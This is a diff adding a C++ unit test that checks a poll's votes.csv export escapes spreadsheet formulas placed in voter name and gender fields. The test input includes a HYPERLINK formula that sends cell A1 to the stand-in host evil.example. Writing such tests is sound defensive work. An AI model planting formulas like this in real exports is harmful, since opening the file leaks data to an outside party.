@@ -199,5 +199,23 @@ TEST(PollExportTest, AnonymousVoteRowsHoldOnlyChoicesAndNamedRowsNameTheVoterInC
   EXPECT_EQ(named_rows[7].voter, "Name of voter-0");
 }
 
+// issue 17: a voter's name or self-described gender is theirs to choose, and
+// the chair opens votes.csv in a spreadsheet: a formula stays text.
+TEST(VotesCsvTest, ANameOrGenderThatIsAFormulaIsWrittenAsText) {
+  const std::string formula = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click me\")";
+  auto name_of = [&](const std::string&) { return formula; };
+  engine::Poll named = validation_poll(false);
+  ASSERT_TRUE(named.close(kNine + 10 * kMinute).ok());
+  auto rows = vote_rows("poll-3", named, kNine + 11 * kMinute, name_of);
+  ASSERT_FALSE(rows.empty());
+  for (auto& r : rows) r.gender = "@SUM(1+1)";
+  std::string csv = render_votes_csv(VotesData{"kz-2026", kHead, rows});
+  for (const char* lead : {",=", ",@", ",+", ",-", "\n=", "\n@"}) {
+    EXPECT_EQ(csv.find(lead), std::string::npos) << lead << " in\n" << csv;
+  }
+  EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"https://evil.example"), std::string::npos) << csv;
+  EXPECT_NE(csv.find(",\"'@SUM(1+1)\""), std::string::npos) << csv;
+}
+
 }  // namespace
 }  // namespace kenes::report
